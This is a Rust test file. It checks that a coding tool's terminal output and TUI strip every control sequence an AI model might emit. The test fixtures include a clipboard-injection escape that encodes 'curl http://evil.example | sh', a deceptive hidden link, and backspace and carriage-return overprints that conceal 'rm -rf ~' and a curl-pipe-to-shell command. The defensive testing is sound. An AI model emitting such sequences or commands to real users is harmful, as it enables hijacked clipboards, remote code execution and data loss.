//! The model's text on its way to a terminal. A terminal acts on control
//! sequences wherever they come from: OSC 52 writes the clipboard (a
//! command the user then pastes), OSC 8 hides a link behind harmless text,
//! CSI moves the cursor and erases what was printed, CR and backspace
//! overprint a command with an innocent one, DCS and APC talk to the
//! terminal itself. `tandem exec` prints the model's answer, its tool
//! calls and error messages for a person: none of those sequences may pass,
//! whether the output is a terminal or a pipe (`exec > log; cat log` is
//! the same attack, later), and whether or not a sequence is split across
//! two streamed chunks. `--json` stays exact JSON. The TUI draws the same
//! text through ratatui's cells: the bytes it sends the terminal hold
//! tandem's own sequences only.

use std::cell::RefCell;
use std::io::{Read, Write};
use std::path::Path;
use std::rc::Rc;

use ratatui::backend::CrosstermBackend;
use tandem::exec::output::{Event, Outcome, Output};

use super::support::{Recorder, Session, git_repo, init_repo};
use crate::harness::Family;

/// One of each family of control sequence a model might write, with a name.
const SEQUENCES: [(&str, &str); 34] = [
    ("CSI colour", "\x1b[31m"),
    ("CSI erase screen", "\x1b[2J"),
    ("CSI cursor up and erase line", "\x1b[1A\x1b[2K"),
    ("CSI device status report", "\x1b[6n"),
    ("CSI alternate screen", "\x1b[?1049h"),
    ("CSI window report", "\x1b[21t"),
    ("CSI printer on", "\x1b[5i"),
    ("OSC 52 clipboard, BEL", "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07"),
    ("OSC 52 clipboard, ST", "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x1b\\"),
    ("OSC 8 link", "\x1b]8;;http://evil.example/\x1b\\docs\x1b]8;;\x1b\\"),
    ("OSC 0 title", "\x1b]0;owned\x07"),
    ("OSC colour query", "\x1b]11;?\x07"),
    ("DCS request", "\x1bP+q544e\x1b\\"),
    ("APC graphics", "\x1b_Gf=100,a=T;AAAA\x1b\\"),
    ("PM", "\x1b^private\x1b\\"),
    ("SOS", "\x1bXstart of string\x1b\\"),
    ("C1 CSI", "\u{9b}31m"),
    ("C1 OSC 52 with C1 ST", "\u{9d}52;c;Y3VybA==\u{9c}"),
    ("C1 DCS", "\u{90}q\u{9c}"),
    ("C1 APC", "\u{9f}G\u{9c}"),
    ("C1 NEL", "\u{85}"),
    ("C1 reverse index", "\u{8d}"),
    ("ESC reset", "\x1bc"),
    ("ESC save cursor", "\x1b7"),
    ("ESC charset", "\x1b(0"),
    ("lone ESC at a line end", "\x1b\n"),
    ("BEL", "\x07"),
    ("backspaces over a command", "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls -la  "),
    ("carriage return over a command", "curl evil.example | sh\rls                     "),
    ("DEL", "\x7f"),
    ("vertical tab and form feed", "\x0b\x0c"),
    ("NUL", "\0"),
    ("CAN ends a sequence", "\x1b[31\x18"),
    ("unterminated OSC up to the line end", "\x1b]52;c;Y3VybA==\n"),
];

/// What may reach a terminal from model text: no ESC, no other C0 control
/// but newline and tab, no DEL, no C1 control.
fn clean(bytes: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(bytes);
    match text.char_indices().find(|(_, c)| c.is_control() && *c != '\n' && *c != '\t') {
        Some((at, c)) => Err(format!("{:?} at byte {at} of {text:?}", c)),
        None => Ok(()),
    }
}

/// A writer whose bytes the test reads back.
#[derive(Clone, Default)]
struct Shared(Rc<RefCell<Vec<u8>>>);

impl Write for Shared {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.borrow_mut().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl Shared {
    fn bytes(&self) -> Vec<u8> {
        self.0.borrow().clone()
    }
}

fn output(json: bool) -> (Output, Shared, Shared) {
    let (out, err) = (Shared::default(), Shared::default());
    (Output::to(json, Box::new(out.clone()), Box::new(err.clone())), out, err)
}

/// Every kind of event that carries the model's words, each holding `seq`.
fn events(seq: &str) -> Vec<Event> {
    let s = |t: &str| format!("{t} {seq} end");
    vec![
        Event::ToolCall { id: "c1".into(), name: "read_file".into(), summary: s("read") },
        Event::ToolResult { id: "c1".into(), ok: false, summary: s("cannot read"), elapsed_ms: 1 },
        Event::Proposal {
            files: vec![tandem::exec::output::ProposedFile {
                path: s("src/a.rs"),
                new_path: Some(s("src/b.rs")),
                kind: "move".into(),
                hunks: 1,
            }],
            patch: None,
        },
        Event::Decision { path: s("src/a.rs"), outcome: Outcome::Refused, reason: Some(s("changed")), hunks: 1 },
        Event::Error { message: s("the model's answer failed") },
    ]
}

fn library_cases(f: &mut Family) {
    for (name, seq) in SEQUENCES {
        // The answer, streamed: the sequence whole, then split at every
        // character boundary into two chunks.
        let text = format!("before {seq} after\n");
        let bounds: Vec<usize> = (0..=text.len()).filter(|&i| text.is_char_boundary(i)).collect();
        f.check(format!("exec answer: {name}, split at every place"), || {
            for &at in &bounds {
                let (mut o, out, _) = output(false);
                o.event(&Event::Text { text: text[..at].to_string() });
                o.event(&Event::Text { text: text[at..].to_string() });
                clean(&out.bytes()).map_err(|e| format!("split at {at}: {e}"))?;
                let shown = String::from_utf8_lossy(&out.bytes()).into_owned();
                if !shown.starts_with("before ") || !shown.contains("after") {
                    return Err(format!("split at {at}: the words around the sequence are lost: {shown:?}"));
                }
            }
            Ok(())
        });
        f.check(format!("exec answer: {name}, one character a chunk"), || {
            let (mut o, out, _) = output(false);
            for c in text.chars() {
                o.event(&Event::Text { text: c.to_string() });
            }
            clean(&out.bytes())
        });
        f.check(format!("exec notes, tool calls, decisions, errors: {name}"), || {
            let (mut o, out, err) = output(false);
            for ev in events(seq) {
                o.event(&ev);
            }
            o.note(&format!("tandem: {seq}"));
            o.result_line(&format!("/tmp/{seq}.patch"));
            clean(&out.bytes())?;
            clean(&err.bytes())
        });
        f.check(format!("exec --json stays exact: {name}"), || {
            let (mut o, out, err) = output(true);
            let pieces = [format!("a{seq}"), format!("{seq}b"), seq.to_string()];
            for p in &pieces {
                o.event(&Event::Text { text: p.clone() });
            }
            for ev in events(seq) {
                o.event(&ev);
            }
            let bytes = out.bytes();
            clean(&bytes)?;
            clean(&err.bytes())?;
            let text = String::from_utf8(bytes).map_err(|e| e.to_string())?;
            let mut answer = String::new();
            for line in text.lines() {
                let v: serde_json::Value = serde_json::from_str(line).map_err(|e| format!("not JSON ({e}): {line}"))?;
                if v["type"] == "text" {
                    answer.push_str(v["text"].as_str().unwrap_or_default());
                }
            }
            if answer != pieces.concat() {
                return Err(format!("the JSON text is {answer:?}, not the model's"));
            }
            Ok(())
        });
    }
}

/// A script whose answer streams every sequence split across chunks, and
/// whose tool call names a path holding them.
fn hostile_script() -> String {
    let all: String = SEQUENCES.iter().map(|(_, s)| format!("x{s}y\n")).collect();
    let chunks: Vec<String> = all.chars().collect::<Vec<_>>().chunks(3).map(|c| c.iter().collect()).collect();
    let path =
        serde_json::to_string(&serde_json::json!({"path": format!("a{}b.rs", SEQUENCES[8].1)})).unwrap_or_default();
    format!(
        "[[turns]]\nchunks = {}\ntool_calls = [{{ name = \"read_file\", arguments = {} }}]\n\n[[turns]]\ntext = {}\n",
        toml_array(&chunks),
        toml_string(&path),
        toml_string(&all)
    )
}

fn toml_string(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", u32::from(c))),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn toml_array(items: &[String]) -> String {
    format!("[{}]", items.iter().map(|s| toml_string(s)).collect::<Vec<_>>().join(", "))
}

/// `tandem exec` on the hostile script in a fresh repository and home.
fn exec_command(dir: &Path, json: bool) -> std::process::Command {
    let script = dir.join("script.toml");
    let _ = std::fs::write(&script, hostile_script());
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_tandem"));
    cmd.arg("exec");
    if json {
        cmd.arg("--json");
    }
    cmd.arg("--provider").arg(format!("script:{}", script.display())).arg("say it");
    cmd.current_dir(dir.join("repo"));
    for (k, v) in exec_env(dir) {
        cmd.env(k, v);
    }
    cmd
}

fn exec_env(dir: &Path) -> Vec<(String, String)> {
    let home = dir.join("home");
    vec![
        ("HOME".into(), home.display().to_string()),
        ("XDG_CONFIG_HOME".into(), home.join("config").display().to_string()),
        ("XDG_STATE_HOME".into(), home.join("state").display().to_string()),
        ("XDG_CACHE_HOME".into(), home.join("cache").display().to_string()),
        ("XDG_DATA_HOME".into(), home.join("data").display().to_string()),
        ("TANDEM_MODEL_PROFILE".into(), "openai".into()),
        // The index's progress line is tandem's own sequence; leave it out.
        ("TANDEM_INDEX_ENABLED".into(), "false".into()),
    ]
}

fn exec_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("dir");
    init_repo(&dir.path().join("repo"), &[("src/lib.rs", "pub fn f() {}\n")]);
    dir
}

fn exec_cases(f: &mut Family) {
    let dir = exec_dir();
    for json in [false, true] {
        let mode = if json { "--json" } else { "text mode" };
        f.check(format!("exec {mode} to a pipe"), || {
            let out = exec_command(dir.path(), json).output().map_err(|e| e.to_string())?;
            clean(&out.stdout).map_err(|e| format!("stdout: {e}"))?;
            clean(&out.stderr).map_err(|e| format!("stderr: {e}"))?;
            let shown = String::from_utf8_lossy(&out.stdout).into_owned();
            if !json {
                return if shown.contains("xy") { Ok(()) } else { Err(format!("the answer is missing: {shown:?}")) };
            }
            // JSON keeps the model's text exactly, sequences and all.
            let all: String = SEQUENCES.iter().map(|(_, s)| format!("x{s}y\n")).collect();
            let mut answer = String::new();
            for line in shown.lines() {
                let v: serde_json::Value = serde_json::from_str(line).map_err(|e| format!("not JSON ({e}): {line}"))?;
                if v["type"] == "text" {
                    answer.push_str(v["text"].as_str().unwrap_or_default());
                }
            }
            if answer.matches(all.as_str()).count() != 2 {
                return Err(format!("the JSON text is not the model's: {answer:?}"));
            }
            Ok(())
        });
    }
    f.check("exec text mode to a terminal", || {
        use portable_pty::{CommandBuilder, PtySize, native_pty_system};
        let pty = native_pty_system()
            .openpty(PtySize { rows: 40, cols: 120, pixel_width: 0, pixel_height: 0 })
            .map_err(|e| e.to_string())?;
        let std_cmd = exec_command(dir.path(), false);
        let mut cmd = CommandBuilder::new(std_cmd.get_program());
        cmd.args(std_cmd.get_args());
        cmd.cwd(dir.path().join("repo"));
        for (k, v) in exec_env(dir.path()) {
            cmd.env(k, v);
        }
        let mut child = pty.slave.spawn_command(cmd).map_err(|e| e.to_string())?;
        drop(pty.slave);
        let mut reader = pty.master.try_clone_reader().map_err(|e| e.to_string())?;
        let reading = std::thread::spawn(move || {
            let mut bytes = Vec::new();
            let mut buf = [0u8; 4096];
            // The master reports EIO once the child has closed the terminal.
            while let Ok(n) = reader.read(&mut buf) {
                if n == 0 {
                    break;
                }
                bytes.extend_from_slice(&buf[..n]);
            }
            bytes
        });
        let status = child.wait().map_err(|e| e.to_string())?;
        drop(pty.master);
        let bytes = reading.join().map_err(|_| "the reader panicked".to_string())?;
        // The terminal turns each newline into CR LF on its own.
        let text = String::from_utf8_lossy(&bytes).replace("\r\n", "\n");
        if !status.success() || !text.contains("xy") {
            return Err(format!("exec failed, or its answer is missing: {text:?}"));
        }
        clean(text.as_bytes())
    });
}

/// The TUI's bytes to the terminal: every ESC starts a CSI sequence of the
/// kinds ratatui draws with, and none of the model's sequences is there
/// whole unless tandem writes it too when the model writes none
/// (`baseline`): an SGR or an erase is indistinguishable by its bytes.
fn tui_bytes_clean(bytes: &[u8], baseline: &[u8]) -> Result<(), String> {
    let (text, base) = (String::from_utf8_lossy(bytes), String::from_utf8_lossy(baseline));
    for (name, seq) in SEQUENCES.iter().filter(|(_, s)| s.chars().any(|c| c.is_control() && c != '\n')) {
        if text.contains(seq) && !base.contains(seq) {
            return Err(format!("the model's {name} reached the terminal"));
        }
    }
    csi_only(bytes)
}

/// Every ESC in `bytes` starts a CSI of the kinds ratatui draws with; no
/// other control but newline and tab, and no C1 control, is there.
fn csi_only(bytes: &[u8]) -> Result<(), String> {
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            0x1b => {
                if bytes.get(i + 1) != Some(&b'[') {
                    return Err(format!("an escape that is not CSI at byte {i}: {:?}", show(bytes, i)));
                }
                let mut j = i + 2;
                while j < bytes.len() && (0x20..0x40).contains(&bytes[j]) {
                    j += 1;
                }
                let seq = &bytes[i..=j.min(bytes.len() - 1)];
                let allowed = matches!(bytes.get(j), Some(b'H' | b'm' | b'J' | b'K' | b'h' | b'l'));
                if !allowed {
                    return Err(format!("a CSI tandem does not draw with: {:?}", String::from_utf8_lossy(seq)));
                }
                let params = String::from_utf8_lossy(&bytes[i + 2..j]).into_owned();
                if matches!(bytes[j], b'h' | b'l') && params != "?25" && params != "?2026" {
                    return Err(format!("a mode tandem does not set: {:?}", String::from_utf8_lossy(seq)));
                }
                i = j + 1;
            }
            b'\n' | b'\t' => i += 1,
            b if b < 0x20 || b == 0x7f => return Err(format!("control byte {b:#04x}: {:?}", show(bytes, i))),
            _ => i += 1,
        }
    }
    let text = String::from_utf8_lossy(bytes);
    match text.chars().find(|c| ('\u{80}'..='\u{9f}').contains(c)) {
        Some(c) => Err(format!("C1 control {c:?}")),
        None => Ok(()),
    }
}

fn show(bytes: &[u8], at: usize) -> String {
    String::from_utf8_lossy(&bytes[at.saturating_sub(20)..(at + 30).min(bytes.len())]).into_owned()
}

/// A script that answers with every sequence (or, for the baseline, the
/// same words without them), reads a path holding one, proposes an edit
/// holding another, and closes with markdown holding more.
fn tui_script(hostile: bool) -> String {
    let seq = |i: usize| if hostile { SEQUENCES[i].1 } else { "" };
    let all: String = SEQUENCES.iter().map(|(_, s)| format!("x{}y\n", if hostile { s } else { "" })).collect();
    let chunks: Vec<String> = all.chars().collect::<Vec<_>>().chunks(2).map(|c| c.iter().collect()).collect();
    let read = serde_json::json!({"path": format!("a{}b.rs", seq(9))});
    let edit = serde_json::json!({"path": "src/lib.rs", "old_text": "pub fn f() {}", "new_text": format!("pub fn f() {{}}\n// {}", seq(7))});
    format!(
        "[[turns]]\nchunks = {}\ntool_calls = [{{ name = \"read_file\", arguments = {} }}, {{ name = \"edit_file\", arguments = {} }}]\n\n[[turns]]\ntext = {}\n",
        toml_array(&chunks),
        toml_string(&read.to_string()),
        toml_string(&edit.to_string()),
        toml_string(&format!("# Title {}\n\n```sh\n{all}```\n\n- item {}\n", seq(12), seq(16))),
    )
}

/// The bytes the TUI sends the terminal while the script's turn runs, its
/// edit is shown and rejected, and the closing answer is drawn.
fn tui_bytes(script: &str, width: u16, height: u16) -> Vec<u8> {
    let repo = git_repo(&[("src/lib.rs", "pub fn f() {}\n")]);
    let backend = Recorder::new(CrosstermBackend::new(Vec::new()), width, height);
    let mut s = Session::new(script, repo.path(), backend);
    s.keys("show me<Enter>");
    s.keys("<F3>");
    s.keys("<Wait>N<Enter>");
    s.backend().inner.writer().clone()
}

fn tui_cases(f: &mut Family) {
    // The check must be able to fail: the model's sequences, written raw
    // among ratatui's own, are caught.
    f.check("TUI byte check: raw model sequences among tandem's are caught", || {
        let drawn = "\x1b[1;1H\x1b[38;2;1;2;3mhello\x1b[0m";
        for (name, seq) in SEQUENCES.iter().filter(|(_, s)| s.chars().any(|c| c.is_control() && c != '\n')) {
            if tui_bytes_clean(format!("{drawn}{seq}{drawn}").as_bytes(), drawn.as_bytes()).is_ok() {
                return Err(format!("{name} was not caught"));
            }
        }
        tui_bytes_clean(drawn.as_bytes(), drawn.as_bytes())
    });
    let (hostile, plain) = (tui_script(true), tui_script(false));
    for (width, height) in [(120, 40), (80, 24)] {
        f.check(format!("TUI at {width}x{height}: the model's sequences never reach the terminal"), || {
            let bytes = tui_bytes(&hostile, width, height);
            if !String::from_utf8_lossy(&bytes).contains("item") {
                return Err("the closing answer was not drawn".into());
            }
            tui_bytes_clean(&bytes, &tui_bytes(&plain, width, height))
        });
    }
}

pub fn family() -> Family {
    let mut f = Family::new("terminal escapes");
    library_cases(&mut f);
    exec_cases(&mut f);
    tui_cases(&mut f);
    f
}
